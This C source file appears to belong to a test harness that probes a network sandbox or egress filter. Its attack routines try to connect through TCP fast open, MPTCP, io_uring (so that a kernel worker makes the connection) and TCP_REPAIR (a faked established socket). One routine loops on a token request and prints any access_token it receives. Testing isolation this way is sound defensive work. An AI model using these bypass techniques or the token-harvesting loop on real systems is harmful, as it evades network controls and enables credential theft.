#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

/* <netinet/tcp.h> has it, and clashes with <linux/tcp.h>. */
#define STATE_ESTABLISHED 1

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static void finish(int fd)
{
	struct pollfd polled = { .fd = fd, .events = POLLOUT };
	int error = 0;
	socklen_t length = sizeof(error);

	if (poll(&polled, 1, PATIENCE_MS) != 1)
		fail("connect", ETIMEDOUT);
	getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length);
	if (error)
		fail("connect", error);
}

/* connect() by a worker of the kernel's, which shares our cgroup. */
static int connect_by_ring(int fd, struct target *target)
{
	struct io_uring_params parameters = {};
	int ring = (int)syscall(SYS_io_uring_setup, 1, &parameters);
	struct io_uring_sqe *entries;
	struct io_uring_cqe *completion;
	char *submissions, *completions;
	unsigned head;

	if (ring < 0)
		broken("io_uring", errno);
	submissions = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
			   IORING_OFF_SQ_RING);
	completions = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
			   IORING_OFF_CQ_RING);
	entries = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
		       IORING_OFF_SQES);
	if (submissions == MAP_FAILED || completions == MAP_FAILED || entries == MAP_FAILED)
		broken("io_uring mmap", errno);
	memset(entries, 0, sizeof(*entries));
	entries->opcode = IORING_OP_CONNECT;
	entries->fd = fd;
	entries->addr = (uintptr_t)&target->any;
	entries->off = target->length;
	*(unsigned *)(submissions + parameters.sq_off.array) = 0;
	*(unsigned *)(submissions + parameters.sq_off.tail) = 1;
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		broken("io_uring", errno);
	head = *(unsigned *)(completions + parameters.cq_off.head);
	completion = (struct io_uring_cqe *)(completions + parameters.cq_off.cqes) + head;
	if (completion->res < 0) {
		errno = -completion->res;
		return -1;
	}
	return 0;
}

/* Prints the address that the kernel gives for this socket's peer. */
static void print_peer(int fd)
{
	union {
		struct sockaddr any;
		struct sockaddr_in v4;
		struct sockaddr_in6 v6;
	} peer;
	socklen_t length = sizeof(peer);
	char text[INET6_ADDRSTRLEN] = "";

	if (getpeername(fd, &peer.any, &length) < 0)
		broken("getpeername", errno);
	inet_ntop(peer.any.sa_family,
		  peer.any.sa_family == AF_INET ? (void *)&peer.v4.sin_addr : (void *)&peer.v6.sin6_addr,
		  text, sizeof(text));
	printf("peer %s port %d\n", text, ntohs(peer.v4.sin_port));
}

/* HOW ADDRESS PORT, and optionally SOURCE PORT */
void attack_connect(char **argument)
{
	const char *how = argument[0];
	struct target target = parse_target(argument[1], argument[2]);
	int on = 1;
	int fd = make_stream(target.any.sa_family, strstr(how, "mptcp") ? IPPROTO_MPTCP : 0);

	if (argument[3]) {
		struct target source = parse_target(argument[3], argument[4]);

		setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
		if (bind(fd, &source.any, source.length) < 0)
			broken("bind", errno);
	}
	if (!strcmp(how, "fast-open") || !strcmp(how, "mptcp-fast-open")) {
		if (sendto(fd, "", 0, MSG_FASTOPEN, &target.any, target.length) < 0)
			fail("connect", errno);
	} else if (!strcmp(how, "non-blocking")) {
		fcntl(fd, F_SETFL, O_NONBLOCK);
		if (connect(fd, &target.any, target.length) < 0 && errno != EINPROGRESS)
			fail("connect", errno);
		finish(fd);
		fcntl(fd, F_SETFL, 0);
	} else if (!strcmp(how, "ring")) {
		if (connect_by_ring(fd, &target) < 0)
			fail("connect", errno);
	} else {
		if (!strcmp(how, "fast-open-connect"))
			setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on));
		if (connect(fd, &target.any, target.length) < 0)
			fail("connect", errno);
		if (!strcmp(how, "reconnect")) {
			struct sockaddr nowhere = { .sa_family = AF_UNSPEC };

			connect(fd, &nowhere, sizeof(nowhere));
			if (connect(fd, &target.any, target.length) < 0)
				fail("reconnect", errno);
		}
	}
	if (strstr(how, "peer"))
		print_peer(fd);
	else
		ask(fd);
}

static void wake(int number)
{
	(void)number;
}

/* ADDRESS PORT: connects, asks, says so, and asks again when told to (SIGUSR1). */
void attack_keep_alive(char **argument)
{
	struct target target = parse_target(argument[0], argument[1]);
	struct sigaction action = { .sa_handler = wake };
	sigset_t set, none;
	int fd = make_stream(target.any.sa_family, 0);

	sigemptyset(&none);
	sigemptyset(&set);
	sigaddset(&set, SIGUSR1);
	sigprocmask(SIG_BLOCK, &set, NULL);
	sigaction(SIGUSR1, &action, NULL);
	if (connect(fd, &target.any, target.length) < 0)
		fail("connect", errno);
	ask(fd);
	fprintf(stderr, "connected\n");
	sigsuspend(&none);
	ask(fd);
}

static volatile sig_atomic_t ended;

static void end(int number)
{
	(void)number;
	ended = 1;
}

/* ADDRESS PORT: connects and asks, again and again, until told to end (SIGUSR1); prints
 * every answer, and how often there was none.
 */
void attack_loop(char **argument)
{
	struct target target = parse_target(argument[0], argument[1]);
	struct sigaction action = { .sa_handler = end };
	long tries = 0, refused = 0;

	sigaction(SIGUSR1, &action, NULL);
	fprintf(stderr, "looping\n");
	while (!ended) {
		int fd = make_stream(target.any.sa_family, 0);

		if (connect(fd, &target.any, target.length) < 0)
			refused++;
		else if (send(fd, token_request, strlen(token_request), MSG_NOSIGNAL) > 0 &&
			 wait_readable(fd, PATIENCE_MS)) {
			char answer[4096];
			ssize_t length = recv(fd, answer, sizeof(answer) - 1, 0);
			const char *body;

			answer[length > 0 ? length : 0] = 0;
			body = strstr(answer, "\r\n\r\n");
			if (body && strstr(body, "access_token"))
				printf("answered %.3s %s\n", answer + 9, body + 4);
		}
		close(fd);
		tries++;
		poll(NULL, 0, 1);
	}
	fprintf(stderr, "%ld tries, %ld refused\n", tries, refused);
}

/* SOURCE PORT ADDRESS PORT: claims to be connected, without a packet. */
void attack_repair(char **argument)
{
	struct target source = parse_target(argument[0], argument[1]);
	struct target target = parse_target(argument[2], argument[3]);
	int fd = make_stream(target.any.sa_family, 0);
	int on = 1, off = 0;
	int queue = TCP_SEND_QUEUE;
	unsigned sequence = 1000;
	struct tcp_info info;
	socklen_t length = sizeof(info);

	if (setsockopt(fd, SOL_IP, IP_FREEBIND, &on, sizeof(on)) < 0 ||
	    setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof(on)) < 0)
		broken("repair", errno);
	if (setsockopt(fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &queue, sizeof(queue)) < 0 ||
	    setsockopt(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &sequence, sizeof(sequence)) < 0)
		broken("send queue", errno);
	queue = TCP_RECV_QUEUE;
	if (setsockopt(fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &queue, sizeof(queue)) < 0 ||
	    setsockopt(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &sequence, sizeof(sequence)) < 0)
		broken("receive queue", errno);
	if (bind(fd, &source.any, source.length) < 0)
		broken("bind", errno);
	if (connect(fd, &target.any, target.length) < 0)
		fail("connect", errno);
	if (getsockopt(fd, IPPROTO_TCP, TCP_INFO, &info, &length) < 0 ||
	    info.tcpi_state != STATE_ESTABLISHED)
		broken("established", ENOTCONN);
	setsockopt(fd, IPPROTO_TCP, TCP_REPAIR, &off, sizeof(off));
	printf("established without a packet\n");
	ask(fd);
}
